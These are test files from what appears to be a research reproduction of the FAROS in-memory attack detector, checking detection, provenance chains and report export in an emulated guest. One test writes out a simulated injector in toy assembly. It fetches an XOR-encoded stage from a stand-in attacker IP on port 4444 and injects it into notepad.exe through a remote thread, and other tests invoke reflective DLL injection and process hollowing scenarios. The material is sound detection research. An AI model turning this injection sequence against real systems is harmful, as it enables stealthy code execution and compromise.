        result = execute_job(job)
        assert result.verdict is True           # one of the two JIT FPs
        clone = TriageResult.from_json_dict(json.loads(json.dumps(result.to_json_dict())))
        assert clone == result

    def test_error_row_round_trips(self):
        result = execute_job(_pyfunc_job(3, "raising_job"))
        clone = TriageResult.from_json_dict(json.loads(json.dumps(result.to_json_dict())))
        assert clone == result


class TestRunTriage:
    def test_serial_path_matches_execute_job_verdicts(self):
        jobs = [_pyfunc_job(i, "ok_job", token=i) for i in range(5)]
        results = run_triage(jobs, jobs=1)
        assert [r.verdict for r in results] == [False, True, False, True, False]
        assert all(r.status == STATUS_OK for r in results)

    def test_parallel_results_come_back_in_submission_order(self):
        # Later jobs finish first (earlier ones sleep longer), yet the
        # aggregator must return submission order.
        jobs = [
            _pyfunc_job(i, "slow_job", name=f"job-{i}",
                        seconds=0.3 - 0.1 * i if i < 3 else 0.0)
            for i in range(6)
        ]
        results = run_triage(jobs, jobs=3)
        assert [r.job_id for r in results] == list(range(6))
        assert [r.name for r in results] == [f"job-{i}" for i in range(6)]

    def test_more_workers_than_jobs(self):
        jobs = [_pyfunc_job(0, "ok_job", token=1)]
        [result] = run_triage(jobs, jobs=8)
        assert result.verdict is True

    def test_empty_batch(self):
        assert run_triage([], jobs=1) == []
        assert run_triage([], jobs=4) == []

    def test_workers_report_distinct_pids(self):
        jobs = [_pyfunc_job(i, "slow_job", seconds=0.15) for i in range(4)]
        results = run_triage(jobs, jobs=2)
        assert all(r.worker_pid != 0 for r in results)
        assert len({r.worker_pid for r in results}) >= 2


class TestPicklableSpecs:
    def test_sample_spec_round_trips_through_job_params(self):
        from repro.workloads.corpus import SampleSpec

        for spec in select_corpus_samples(limit=5):
            params = spec.job_params()
            json.dumps(params)  # the wire format must be JSON-safe too
            assert SampleSpec.from_params(**params) == spec
