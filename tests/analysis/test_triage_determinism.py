"""Determinism differential: parallel triage must be byte-identical to
serial (the parallel analogue of the taint fast-path harness).

Verdicts, FP counts, and the rendered paper tables are compared between
the in-process serial path and a 4-worker pool on the same rosters.
"""

import pytest

from repro.analysis.experiments import corpus_fp_experiment, detection_suite
from repro.analysis.tables import render_detection_suite, render_table4


class TestCorpusDeterminism:
    @pytest.fixture(scope="class")
    def serial(self):
        return corpus_fp_experiment(limit=21)

    @pytest.fixture(scope="class")
    def parallel(self):
        return corpus_fp_experiment(limit=21, jobs=4)

    def test_verdicts_identical(self, serial, parallel):
        assert [(r.sample.name, r.flagged) for r in serial] == [
            (r.sample.name, r.flagged) for r in parallel
        ]

    def test_exit_codes_identical(self, serial, parallel):
        assert [r.exit_code for r in serial] == [r.exit_code for r in parallel]

    def test_fp_counts_identical(self, serial, parallel):
        assert sum(r.flagged for r in serial) == sum(r.flagged for r in parallel) == 0

    def test_no_errors_either_path(self, serial, parallel):
        assert [r.error for r in serial] == [r.error for r in parallel] == [None] * 21

    def test_rendered_table_byte_identical(self, serial, parallel):
        assert render_table4(serial) == render_table4(parallel)

    def test_tracker_stats_identical(self, serial, parallel):
        # Not just verdicts: the workers saw the very same executions.
        assert [(r.result.instructions, r.result.tainted_bytes) for r in serial] == [
            (r.result.instructions, r.result.tainted_bytes) for r in parallel
        ]


class TestDetectionSuiteDeterminism:
    @pytest.fixture(scope="class")
    def serial(self):
        return detection_suite()

    @pytest.fixture(scope="class")
    def parallel(self):
        return detection_suite(jobs=4)

    def test_verdicts_identical(self, serial, parallel):
        assert [(r.name, r.detected) for r in serial] == [
            (r.name, r.detected) for r in parallel
        ]
        assert sum(r.detected for r in parallel) == 6

    def test_chains_identical(self, serial, parallel):
        # ProvenanceChain is a plain dataclass: deep equality covers
        # netflows, process chains, file origins, and resolved APIs.
        assert [r.chains for r in serial] == [r.chains for r in parallel]

    def test_rendered_table_byte_identical(self, serial, parallel):
        assert render_detection_suite(serial) == render_detection_suite(parallel)
