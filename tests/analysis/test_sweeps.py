"""Tests for the detection-characteristic sweeps."""

import pytest

from repro.analysis.sweeps import (
    detection_latency_sweep,
    fragmentation_sweep,
    noise_sweep,
    render_sweeps,
)


@pytest.fixture(scope="module")
def latency():
    return detection_latency_sweep((0, 1024, 4096))


@pytest.fixture(scope="module")
def fragmentation():
    return fragmentation_sweep((8, 128, 0))


@pytest.fixture(scope="module")
def noise():
    return noise_sweep((0, 4))


class TestLatencySweep:
    def test_all_sizes_detected(self, latency):
        assert all(p.detected for p in latency)

    def test_latency_grows_with_payload_size(self, latency):
        latencies = [p.latency_ticks for p in latency]
        assert latencies == sorted(latencies)
        assert latencies[-1] > latencies[0]

    def test_detection_is_at_execution_time(self, latency):
        # The flag lands within the run, not at a post-hoc scan: every
        # latency is well below the scenario budget.
        assert all(0 < p.latency_ticks < 600_000 for p in latency)


class TestFragmentationSweep:
    def test_detection_independent_of_fragmentation(self, fragmentation):
        assert all(p.detected for p in fragmentation)

    def test_provenance_survives_any_segmentation(self, fragmentation):
        assert all(p.netflow_intact for p in fragmentation)

    def test_segment_math(self, fragmentation):
        tiny = next(p for p in fragmentation if p.fragment_bytes == 8)
        assert tiny.segments > 30


class TestNoiseSweep:
    def test_detection_independent_of_noise(self, noise):
        assert all(p.detected for p in noise)

    def test_analysis_cost_grows_with_noise(self, noise):
        costs = [p.instructions_analyzed for p in noise]
        assert costs == sorted(costs) and costs[-1] > costs[0]

    def test_tainted_bytes_grow_with_processes(self, noise):
        # More file-tagged images -> more shadow state, bounded growth.
        footprints = [p.tainted_bytes for p in noise]
        assert footprints[-1] > footprints[0]


def test_render(latency, fragmentation, noise):
    text = render_sweeps(latency, fragmentation, noise)
    assert "detection latency" in text
    assert "fragmentation" in text
    assert "analysis cost" in text
