"""Detection under realistic noise: a busy desktop, one attack.

The paper's usage scenario runs the suspect alongside "any other
applications or activities that he is interested in observing" --
detection must neither drown in concurrent benign activity nor flag it.
"""

import pytest

from repro.attacks import build_reflective_dll_scenario
from repro.emulator.record_replay import KeystrokeEvent, Scenario
from repro.faros import Faros
from repro.workloads.behaviors import build_sample_scenario


@pytest.fixture(scope="module")
def noisy_result():
    """One reflective injection + six busy benign apps on one machine."""
    attack = build_reflective_dll_scenario()
    benign = [
        build_sample_scenario("Skype", ("idle", "run", "audio_record"), variant=i)
        for i in range(3)
    ] + [
        build_sample_scenario("TeamViewer", ("idle", "run", "screenshot"), variant=i)
        for i in range(3)
    ]

    def setup(machine):
        attack.scenario.setup(machine)
        for scenario in benign:
            scenario.setup(machine)

    events = list(attack.scenario.events)
    events.append((8_000, KeystrokeEvent(b"background typing")))
    combined = Scenario(
        name="noisy_desktop", setup=setup, events=events, max_instructions=1_200_000
    )
    faros = Faros()
    machine = combined.run(plugins=[faros])
    return faros, machine


class TestNoiseRobustness:
    def test_attack_flagged_amid_noise(self, noisy_result):
        faros, _ = noisy_result
        assert faros.attack_detected

    def test_only_the_victim_is_implicated(self, noisy_result):
        faros, _ = noisy_result
        executors = {f.executing_process for f in faros.detector.flagged}
        assert executors == {"notepad.exe"}

    def test_benign_apps_completed(self, noisy_result):
        _, machine = noisy_result
        benign = [
            p
            for p in machine.kernel.processes.values()
            if p.name in ("Skype", "TeamViewer")
        ]
        assert benign
        assert all(p.exit_code == 0 for p in benign)

    def test_provenance_chain_untouched_by_noise(self, noisy_result):
        faros, _ = noisy_result
        chain = faros.report().chains()[0]
        assert chain.process_chain == ["inject_client.exe", "notepad.exe"]

    def test_tag_maps_stay_bounded(self, noisy_result):
        faros, _ = noisy_result
        sizes = faros.tags.sizes()
        # A handful of flows/files/processes, nowhere near the ceiling.
        assert sizes["netflow"] < 32
        assert sizes["process"] < 32
