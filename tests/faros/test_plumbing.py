"""Unit tests for FAROS' helper plugins: OSI, syscalls2, and reporting."""

import pytest

from repro.emulator.machine import Machine, MachineConfig
from repro.faros import Faros, OSIPlugin, Syscalls2Plugin
from repro.faros.report import render_provenance
from repro.guestos.syscalls import Sys
from repro.taint.tags import TagStore, TagType

from tests.conftest import register_asm, spawn_asm


class TestOSI:
    def test_process_lifecycle_tracked(self, machine):
        osi = OSIPlugin()
        machine.plugins.register(osi)
        proc = spawn_asm(machine, "a.exe", "start: movi r1, 3\nmovi r0, SYS_EXIT\nsyscall")
        machine.run()
        info = osi.by_pid(proc.pid)
        assert info.name == "a.exe"
        assert info.cr3 == proc.cr3
        assert not info.alive and info.exit_code == 3
        assert info.exited_at >= info.created_at

    def test_lookup_by_cr3(self, machine):
        osi = OSIPlugin()
        machine.plugins.register(osi)
        proc = spawn_asm(machine, "b.exe", "start: hlt")
        assert osi.by_cr3(proc.cr3).pid == proc.pid
        assert osi.name_for_cr3(proc.cr3) == "b.exe"

    def test_unknown_cr3_renders_hex(self):
        assert OSIPlugin().name_for_cr3(0xABC) == "cr3=0xabc"

    def test_process_list_sorted_by_pid(self, machine):
        osi = OSIPlugin()
        machine.plugins.register(osi)
        spawn_asm(machine, "a.exe", "start: hlt")
        register_asm(machine, "b.exe", "start: hlt")
        machine.kernel.spawn("b.exe")
        pids = [p.pid for p in osi.process_list()]
        assert pids == sorted(pids) and len(pids) == 2


class TestSyscalls2:
    def test_trace_records_args_and_result(self, machine):
        tracer = Syscalls2Plugin()
        machine.plugins.register(tracer)
        spawn_asm(
            machine,
            "t.exe",
            """
            start:
                movi r1, 64
                movi r2, PERM_RW
                movi r0, SYS_ALLOC
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            """,
        )
        machine.run()
        alloc = next(e for e in tracer.events if e.number == Sys.ALLOC)
        assert alloc.name == "NtAllocateVirtualMemory"
        assert alloc.args["size"] == 64
        assert alloc.result is not None and alloc.result != 0xFFFFFFFF

    def test_string_pointers_followed(self, machine):
        tracer = Syscalls2Plugin()
        machine.plugins.register(tracer)
        spawn_asm(
            machine,
            "t.exe",
            """
            start:
                movi r1, path
                movi r0, SYS_CREATE_FILE
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            path: .asciz "C:\\\\hello.txt"
            """,
        )
        machine.run()
        create = next(e for e in tracer.events if e.number == Sys.CREATE_FILE)
        assert create.args["path"] == "C:\\hello.txt"

    def test_blocking_syscall_result_filled_on_completion(self, machine):
        tracer = Syscalls2Plugin()
        machine.plugins.register(tracer)
        spawn_asm(
            machine,
            "t.exe",
            "start:\nmovi r1, 500\nmovi r0, SYS_SLEEP\nsyscall\nmovi r1, 0\nmovi r0, SYS_EXIT\nsyscall",
        )
        machine.run()
        sleep = next(e for e in tracer.events if e.number == Sys.SLEEP)
        assert sleep.result == 0

    def test_event_str_format(self, machine):
        tracer = Syscalls2Plugin()
        machine.plugins.register(tracer)
        spawn_asm(machine, "t.exe", "start: movi r1, 0\nmovi r0, SYS_EXIT\nsyscall")
        machine.run()
        text = str(tracer.events[0])
        assert "t.exe" in text and "NtTerminateProcess" in text

    def test_for_process_filter(self, machine):
        tracer = Syscalls2Plugin()
        machine.plugins.register(tracer)
        spawn_asm(machine, "a.exe", "start: movi r1, 0\nmovi r0, SYS_EXIT\nsyscall")
        spawn_asm(machine, "b.exe", "start: movi r1, 0\nmovi r0, SYS_EXIT\nsyscall")
        machine.run()
        assert all(e.process == "a.exe" for e in tracer.for_process("a.exe"))
        assert tracer.for_process("a.exe") and tracer.for_process("b.exe")


class TestReportRendering:
    def test_render_provenance_arrow_format(self):
        tags = TagStore()
        netflow = tags.netflow_tag("1.2.3.4", 4444, "5.6.7.8", 49162)
        proc = tags.process_tag(0x1640)
        tags.process_names[0x1640] = "notepad.exe"
        text = render_provenance(tags, (netflow, proc))
        assert text == (
            "NetFlow: {src ip,port: 1.2.3.4:4444, dest ip.port: 5.6.7.8:49162}"
            " ->Process: notepad.exe;"
        )

    def test_render_empty_provenance(self):
        assert render_provenance(TagStore(), ()) == "(untainted)"

    def test_render_includes_file_and_export_tags(self):
        tags = TagStore()
        prov = (tags.file_tag("a.exe", 2), tags.export_table_tag())
        text = render_provenance(tags, prov)
        assert "File: {file: a.exe, v2}" in text and "ExportTable" in text

    def test_report_tag_map_sizes(self, machine):
        faros = Faros()
        machine.plugins.register(faros)
        spawn_asm(machine, "a.exe", "start: movi r1, 0\nmovi r0, SYS_EXIT\nsyscall")
        machine.run()
        report = faros.report()
        assert report.tag_map_sizes["process"] >= 1
        assert report.instructions_analyzed > 0
