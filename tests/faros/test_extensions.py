"""Tests for the paper's future-work extensions.

* augmented export-table tags (§V-A: per-function names + a fourth map)
* kernel-code tagging vs stub-scanning resolvers (§VI-B policy update)
"""

import pytest

from repro.analysis.evasion import stub_scanner_experiment
from repro.attacks import build_reflective_dll_scenario
from repro.attacks.evasion import build_stub_scanner_attack_scenario
from repro.faros import Faros


class TestAugmentedExportTags:
    @pytest.fixture(scope="class")
    def augmented(self):
        faros = Faros(augment_export_tags=True)
        build_reflective_dll_scenario().scenario.run(plugins=[faros])
        return faros

    @pytest.fixture(scope="class")
    def paper_mode(self):
        faros = Faros(augment_export_tags=False)
        build_reflective_dll_scenario().scenario.run(plugins=[faros])
        return faros

    def test_both_modes_detect(self, augmented, paper_mode):
        assert augmented.attack_detected and paper_mode.attack_detected

    def test_augmented_chain_names_resolved_api(self, augmented):
        chain = augmented.report().chains()[0]
        # The popup stage's first resolution is WriteConsoleA.
        assert chain.resolved_function == "WriteConsoleA"

    def test_paper_mode_has_anonymous_tag(self, paper_mode):
        chain = paper_mode.report().chains()[0]
        assert chain.resolved_function is None
        assert paper_mode.tags.sizes()["export"] == 0

    def test_augmented_mode_fills_fourth_map(self, augmented):
        # One named tag per exported API of the kernel module.
        from repro.guestos.loader import API_TABLE

        assert augmented.tags.sizes()["export"] == len(API_TABLE)

    def test_augmented_render_names_function(self, augmented):
        text = augmented.report().render()
        assert "ExportTable(WriteConsoleA)" in text


class TestStubScannerEvasion:
    @pytest.fixture(scope="class")
    def outcome(self):
        return stub_scanner_experiment()

    def test_stage_really_ran_in_victim(self, outcome):
        assert outcome.stage_ran

    def test_default_policy_evaded(self, outcome):
        # No export-table read happens, so the paper's tagging misses it.
        assert outcome.default_policy_detected is False

    def test_kernel_code_policy_catches_it(self, outcome):
        assert outcome.kernel_code_policy_detected is True

    def test_hardened_chain_still_has_full_provenance(self):
        faros = Faros(taint_kernel_code=True)
        build_stub_scanner_attack_scenario().scenario.run(plugins=[faros])
        chain = faros.report().chains()[0]
        assert chain.netflow is not None
        assert "inject_client.exe" in chain.process_chain
        assert chain.executing_process == "notepad.exe"

    def test_kernel_code_policy_keeps_corpus_clean(self):
        # The stronger policy must not regress false positives.
        from repro.workloads.behaviors import build_sample_scenario

        for behaviors in [("idle", "run", "download"), ("keylogger", "upload")]:
            faros = Faros(taint_kernel_code=True)
            scenario = build_sample_scenario("probe", behaviors, variant=0)
            scenario.run(plugins=[faros])
            assert not faros.attack_detected

    def test_kernel_code_policy_keeps_plain_jit_clean(self):
        from repro.workloads.jit import build_jit_scenario

        faros = Faros(taint_kernel_code=True)
        build_jit_scenario("equilibrium", "applet").scenario.run(plugins=[faros])
        assert not faros.attack_detected
