"""Tests for the machine-readable report export."""

import json

import pytest

from repro.attacks import build_drop_reload_scenario, build_reflective_dll_scenario
from repro.faros import Faros
from repro.faros.report import ProvenanceChain, ReportSummary


@pytest.fixture(scope="module")
def report():
    faros = Faros()
    build_reflective_dll_scenario().scenario.run(plugins=[faros])
    return faros.report()


class TestToDict:
    def test_json_serialisable(self, report):
        text = json.dumps(report.to_json_dict())
        assert "attack_detected" in text

    def test_top_level_fields(self, report):
        d = report.to_json_dict()
        assert d["attack_detected"] is True
        assert d["instructions_analyzed"] > 0
        assert d["tainted_bytes"] > 0
        assert set(d["tag_map_sizes"]) == {"netflow", "process", "file", "export"}

    def test_flag_entries_complete(self, report):
        flag = report.to_json_dict()["flags"][0]
        assert flag["executing_process"] == "notepad.exe"
        assert flag["instruction"].startswith("ld")
        assert flag["rule"] == "netflow+export-table"
        assert any(p.startswith("NetFlow:") for p in flag["provenance"])

    def test_chain_entries_complete(self, report):
        chain = report.to_json_dict()["chains"][0]
        assert chain["netflow"].startswith("169.254.26.161:4444")
        assert chain["process_chain"] == ["inject_client.exe", "notepad.exe"]
        assert chain["resolved_function"] == "WriteConsoleA"

    def test_stitched_fields_in_export(self):
        faros = Faros()
        build_drop_reload_scenario().scenario.run(plugins=[faros])
        chain = faros.report().to_json_dict()["chains"][0]
        assert chain["netflow"] is None
        assert chain["stitched_netflow"].startswith("169.254.26.161")
        assert "dropper.exe" in chain["upstream_processes"]

    def test_clean_report_export(self):
        from repro.emulator.record_replay import Scenario
        from tests.conftest import register_asm

        def setup(machine):
            register_asm(machine, "c.exe", "start: movi r1, 0\nmovi r0, SYS_EXIT\nsyscall")
            machine.kernel.spawn("c.exe")

        faros = Faros()
        Scenario(name="clean", setup=setup).run(plugins=[faros])
        d = faros.report().to_json_dict()
        assert d["attack_detected"] is False
        assert d["flags"] == [] and d["chains"] == []


class TestSummaryRoundTrip:
    """The cross-process result channel: ``to_json_dict`` -> JSON -> summary
    must reconstruct exactly what the in-process report says, for every
    attack in the §VI roster."""

    @pytest.fixture(scope="class")
    def attack_reports(self):
        from repro.analysis.experiments import ATTACK_BUILDERS

        reports = {}
        for name, build in ATTACK_BUILDERS:
            faros = Faros()
            build().scenario.run(plugins=[faros])
            reports[name] = faros.report()
        return reports

    def test_covers_the_full_attack_roster(self, attack_reports):
        assert len(attack_reports) == 6

    def test_summary_round_trips_for_every_attack(self, attack_reports):
        for name, report in attack_reports.items():
            wire = json.loads(json.dumps(report.to_json_dict()))
            rebuilt = ReportSummary.from_json_dict(wire)
            assert rebuilt == report.summary(), name

    def test_rebuilt_summary_matches_in_process_values(self, attack_reports):
        for name, report in attack_reports.items():
            rebuilt = ReportSummary.from_json_dict(report.to_json_dict())
            assert rebuilt.attack_detected is report.attack_detected, name
            assert rebuilt.instructions_analyzed == report.instructions_analyzed
            assert rebuilt.tainted_bytes == report.tainted_bytes
            assert rebuilt.tag_map_sizes == report.tag_map_sizes
            assert rebuilt.chains == report.chains(), name

    def test_summary_export_matches_report_export(self, attack_reports):
        for name, report in attack_reports.items():
            assert report.summary().to_json_dict() == report.to_json_dict(), name

    def test_chain_dict_round_trip(self, attack_reports):
        for report in attack_reports.values():
            for chain in report.chains():
                clone = ProvenanceChain.from_json_dict(
                    json.loads(json.dumps(chain.to_json_dict()))
                )
                assert clone == chain


class TestDeprecatedNames:
    """The renamed export pair keeps working under the old names, with a
    DeprecationWarning pointing at the replacement."""

    def test_report_to_dict_shim(self, report):
        with pytest.warns(DeprecationWarning, match="to_json_dict"):
            old = report.to_dict()
        assert old == report.to_json_dict()

    def test_summary_from_dict_shim(self, report):
        wire = report.to_json_dict()
        with pytest.warns(DeprecationWarning, match="from_json_dict"):
            rebuilt = ReportSummary.from_dict(wire)
        assert rebuilt == report.summary()

    def test_chain_shims(self, report):
        chain = report.chains()[0]
        with pytest.warns(DeprecationWarning):
            d = chain.to_dict()
        with pytest.warns(DeprecationWarning):
            clone = ProvenanceChain.from_dict(d)
        assert clone == chain


class TestCliJson:
    def test_timeline_json_flag(self, capsys):
        from repro.cli import main

        assert main(["timeline", "reflective", "--json"]) == 0
        out = capsys.readouterr().out
        # The JSON document starts at the first line that is exactly "{"
        # (the human-readable render above uses braces mid-line).
        payload = json.loads(out[out.index("\n{\n") + 1:])
        assert payload["command"] == "timeline"
        assert payload["report"]["attack_detected"] is True
        assert payload["timeline"], "timeline events should be exported"
