"""Tests for the machine-readable report export."""

import json

import pytest

from repro.attacks import build_drop_reload_scenario, build_reflective_dll_scenario
from repro.faros import Faros


@pytest.fixture(scope="module")
def report():
    faros = Faros()
    build_reflective_dll_scenario().scenario.run(plugins=[faros])
    return faros.report()


class TestToDict:
    def test_json_serialisable(self, report):
        text = json.dumps(report.to_dict())
        assert "attack_detected" in text

    def test_top_level_fields(self, report):
        d = report.to_dict()
        assert d["attack_detected"] is True
        assert d["instructions_analyzed"] > 0
        assert d["tainted_bytes"] > 0
        assert set(d["tag_map_sizes"]) == {"netflow", "process", "file", "export"}

    def test_flag_entries_complete(self, report):
        flag = report.to_dict()["flags"][0]
        assert flag["executing_process"] == "notepad.exe"
        assert flag["instruction"].startswith("ld")
        assert flag["rule"] == "netflow+export-table"
        assert any(p.startswith("NetFlow:") for p in flag["provenance"])

    def test_chain_entries_complete(self, report):
        chain = report.to_dict()["chains"][0]
        assert chain["netflow"].startswith("169.254.26.161:4444")
        assert chain["process_chain"] == ["inject_client.exe", "notepad.exe"]
        assert chain["resolved_function"] == "WriteConsoleA"

    def test_stitched_fields_in_export(self):
        faros = Faros()
        build_drop_reload_scenario().scenario.run(plugins=[faros])
        chain = faros.report().to_dict()["chains"][0]
        assert chain["netflow"] is None
        assert chain["stitched_netflow"].startswith("169.254.26.161")
        assert "dropper.exe" in chain["upstream_processes"]

    def test_clean_report_export(self):
        from repro.emulator.record_replay import Scenario
        from tests.conftest import register_asm

        def setup(machine):
            register_asm(machine, "c.exe", "start: movi r1, 0\nmovi r0, SYS_EXIT\nsyscall")
            machine.kernel.spawn("c.exe")

        faros = Faros()
        Scenario(name="clean", setup=setup).run(plugins=[faros])
        d = faros.report().to_dict()
        assert d["attack_detected"] is False
        assert d["flags"] == [] and d["chains"] == []


class TestCliJson:
    def test_timeline_json_flag(self, capsys):
        from repro.cli import main

        assert main(["timeline", "reflective", "--json"]) == 0
        payload = json.loads(capsys.readouterr().out)
        assert payload["attack_detected"] is True
