"""Detection robustness: fragmentation, concurrency, rule configuration.

These probe the detector under conditions the happy-path scenarios
don't: payloads split across many packets, two independent attacks on
one machine, XOR-encoded stages, and selectively disabled rules.
"""

import pytest

from repro.attacks import (
    build_process_hollowing_scenario,
    build_reflective_dll_scenario,
)
from repro.attacks.common import (
    ATTACKER_IP,
    ATTACKER_PORT,
    FIRST_EPHEMERAL_PORT,
    GUEST_IP,
    PAYLOAD_BASE,
    assemble_image,
    benign_host_asm,
    recv_exact_asm,
)
from repro.attacks.metasploit import _injector_asm
from repro.attacks.payloads import PAYLOAD_ENTRY_OFFSET, build_popup_payload
from repro.emulator.devices import Packet
from repro.emulator.record_replay import PacketEvent, Scenario
from repro.faros import DetectionConfig, Faros


class TestFragmentedDelivery:
    """The stage arrives in many small TCP segments; taint must survive
    reassembly through the recv loop."""

    def build(self, fragment_size):
        stage = build_popup_payload(PAYLOAD_BASE)
        payload = stage.code

        def setup(machine):
            machine.kernel.register_image(
                "notepad.exe", assemble_image(benign_host_asm("np up"))
            )
            machine.kernel.spawn("notepad.exe")
            machine.kernel.register_image(
                "inject_client.exe",
                assemble_image(_injector_asm(len(payload), "notepad.exe")),
            )
            machine.kernel.spawn("inject_client.exe")

        events = []
        tick = 20_000
        for off in range(0, len(payload), fragment_size):
            chunk = payload[off : off + fragment_size]
            events.append(
                (
                    tick,
                    PacketEvent(
                        Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP,
                               FIRST_EPHEMERAL_PORT, chunk)
                    ),
                )
            )
            tick += 500
        return Scenario(name="frag", setup=setup, events=events, max_instructions=500_000)

    @pytest.mark.parametrize("fragment_size", [16, 64, 333])
    def test_fragmented_stage_still_flagged(self, fragment_size):
        faros = Faros()
        machine = self.build(fragment_size).run(plugins=[faros])
        assert faros.attack_detected
        chain = faros.report().chains()[0]
        assert chain.netflow is not None
        notepad = next(
            p for p in machine.kernel.processes.values() if p.name == "notepad.exe"
        )
        assert any("meterpreter stage alive" in line for line in notepad.console)


class TestXorEncodedStage:
    """The stage travels XOR-encoded and is decoded in the injector --
    the Table I computation rule must carry netflow through the XOR."""

    def test_encoded_stage_still_flagged(self):
        key = 0xA7
        stage = build_popup_payload(PAYLOAD_BASE)
        encoded = bytes(b ^ key for b in stage.code)
        size = len(encoded)

        injector = f"""
        start:
            movi r0, SYS_SOCKET
            syscall
            mov r7, r0
            mov r1, r7
            movi r2, attacker_ip
            movi r3, {ATTACKER_PORT}
            movi r0, SYS_CONNECT
            syscall
{recv_exact_asm("r7", "buf", size, "enc")}
            ; decode in place
            movi r1, buf
            movi r2, {size}
        dec:
            ldb r3, [r1]
            xori r3, r3, {key}
            stb [r1], r3
            addi r1, r1, 1
            subi r2, r2, 1
            cmpi r2, 0
            jnz dec
            ; standard injection
            movi r1, target
            movi r0, SYS_FIND_PROCESS
            syscall
            mov r1, r0
            movi r0, SYS_OPEN_PROCESS
            syscall
            mov r6, r0
            mov r1, r6
            movi r2, {size}
            movi r3, PERM_RWX
            movi r4, {PAYLOAD_BASE:#x}
            movi r0, SYS_ALLOC_VM
            syscall
            mov r1, r6
            movi r2, {PAYLOAD_BASE:#x}
            movi r3, buf
            movi r4, {size}
            movi r0, SYS_WRITE_VM
            syscall
            mov r1, r6
            movi r2, {PAYLOAD_BASE + PAYLOAD_ENTRY_OFFSET:#x}
            movi r3, 0
            movi r0, SYS_CREATE_REMOTE_THREAD
            syscall
            movi r1, 0
            movi r0, SYS_EXIT
            syscall
        attacker_ip: .asciz "{ATTACKER_IP}"
        target: .asciz "notepad.exe"
        buf: .space {size}
        """

        def setup(machine):
            machine.kernel.register_image(
                "notepad.exe", assemble_image(benign_host_asm("np"))
            )
            machine.kernel.spawn("notepad.exe")
            machine.kernel.register_image("crypter.exe", assemble_image(injector))
            machine.kernel.spawn("crypter.exe")

        scenario = Scenario(
            name="xor_stage",
            setup=setup,
            events=[
                (20_000, PacketEvent(Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP,
                                            FIRST_EPHEMERAL_PORT, encoded)))
            ],
            max_instructions=600_000,
        )
        faros = Faros()
        machine = scenario.run(plugins=[faros])
        assert faros.attack_detected
        chain = faros.report().chains()[0]
        assert chain.netflow is not None  # XOR did not launder the taint
        assert "crypter.exe" in chain.process_chain


class TestTwoAttacksOneMachine:
    def test_both_attacks_flagged_independently(self):
        """A hollowing attack and a reflective injection in one guest:
        FAROS reports both, each with its own chain."""
        reflective = build_reflective_dll_scenario()
        hollowing = build_process_hollowing_scenario()

        def setup(machine):
            reflective.scenario.setup(machine)
            hollowing.scenario.setup(machine)

        events = list(reflective.scenario.events) + [
            (at + 5_000, ev) for at, ev in hollowing.scenario.events
        ]
        combined = Scenario(
            name="double_attack",
            setup=setup,
            events=events,
            max_instructions=900_000,
        )
        faros = Faros()
        combined.run(plugins=[faros])
        executors = {f.executing_process for f in faros.detector.flagged}
        assert "notepad.exe" in executors
        assert "svchost.exe" in executors


class TestDetectionConfig:
    def test_netflow_rule_disabled_misses_reflective(self):
        faros = Faros(detection=DetectionConfig(netflow_rule=False,
                                                cross_process_rule=False))
        build_reflective_dll_scenario().scenario.run(plugins=[faros])
        assert not faros.attack_detected

    def test_cross_process_rule_alone_catches_reflective(self):
        # Even without the netflow rule, remote injection trips R2.
        faros = Faros(detection=DetectionConfig(netflow_rule=False,
                                                cross_process_rule=True))
        build_reflective_dll_scenario().scenario.run(plugins=[faros])
        assert faros.attack_detected
        assert faros.detector.flagged[0].rule == "cross-process+export-table"

    def test_cross_process_rule_disabled_misses_hollowing(self):
        faros = Faros(detection=DetectionConfig(netflow_rule=True,
                                                cross_process_rule=False))
        build_process_hollowing_scenario().scenario.run(plugins=[faros])
        assert not faros.attack_detected

    def test_flag_dedup_bounds_report_size(self):
        # The resolver loop reads the whole export table; dedup must keep
        # the report to a handful of rows, not one per comparison.
        faros = Faros()
        build_reflective_dll_scenario().scenario.run(plugins=[faros])
        assert 0 < len(faros.detector.flagged) <= 10
