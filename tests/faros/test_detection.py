"""End-to-end detection tests: FAROS vs. the six in-memory attacks.

These are the reproduction's core claims (paper §VI): every injecting
sample is flagged, with provenance chains matching Figs. 7-10.
"""

import pytest

from repro.attacks import (
    build_bypassuac_injection_scenario,
    build_code_injection_scenario,
    build_process_hollowing_scenario,
    build_reflective_dll_scenario,
    build_reverse_tcp_dns_scenario,
)
from repro.attacks.common import ATTACKER_IP
from repro.faros import Faros


def run_attack(attack):
    faros = Faros()
    machine = attack.scenario.run(plugins=[faros])
    return faros, machine


class TestReflectiveDllInjection:
    """Fig. 7: reflective_dll_inject via the Meterpreter module."""

    @pytest.fixture(scope="class")
    def result(self):
        return run_attack(build_reflective_dll_scenario())

    def test_attack_flagged(self, result):
        faros, _ = result
        assert faros.attack_detected

    def test_injection_actually_happened(self, result):
        # Ground truth: the stage ran inside notepad.exe and popped its
        # message through the resolved WriteConsoleA pointer.
        _, machine = result
        notepad = next(
            p for p in machine.kernel.processes.values() if p.name == "notepad.exe"
        )
        assert any("meterpreter stage alive" in line for line in notepad.console)

    def test_provenance_chain_matches_fig7(self, result):
        faros, _ = result
        chains = faros.report().chains()
        assert chains
        chain = chains[0]
        assert chain.netflow == f"{ATTACKER_IP}:4444 -> 169.254.57.168:49152"
        assert "inject_client.exe" in chain.process_chain
        assert "notepad.exe" in chain.process_chain
        # Chronology: the injector touched the bytes before the victim.
        assert chain.process_chain.index("inject_client.exe") < chain.process_chain.index(
            "notepad.exe"
        )

    def test_flagged_instruction_is_an_export_table_load(self, result):
        faros, _ = result
        from repro.guestos.loader import export_table_address

        flagged = faros.detector.flagged[0]
        assert flagged.insn_text.startswith("ld ")
        assert flagged.read_vaddr >= export_table_address()
        assert flagged.executing_process == "notepad.exe"

    def test_loader_deleted_itself(self, result):
        _, machine = result
        assert not machine.kernel.fs.exists("inject_client.exe")

    def test_stage_never_registered_with_loader(self, result):
        # The reflective-loading bypass Cuckoo trips over: the stage is
        # in no module list.
        _, machine = result
        notepad = next(
            p for p in machine.kernel.processes.values() if p.name == "notepad.exe"
        )
        assert all(m.name != "stage" for m in notepad.modules)
        assert len(notepad.modules) == 1  # just its own image


class TestReverseTcpDns:
    """Fig. 8: self-injection -- shellcode process is also the target."""

    @pytest.fixture(scope="class")
    def result(self):
        return run_attack(build_reverse_tcp_dns_scenario())

    def test_attack_flagged(self, result):
        faros, _ = result
        assert faros.attack_detected

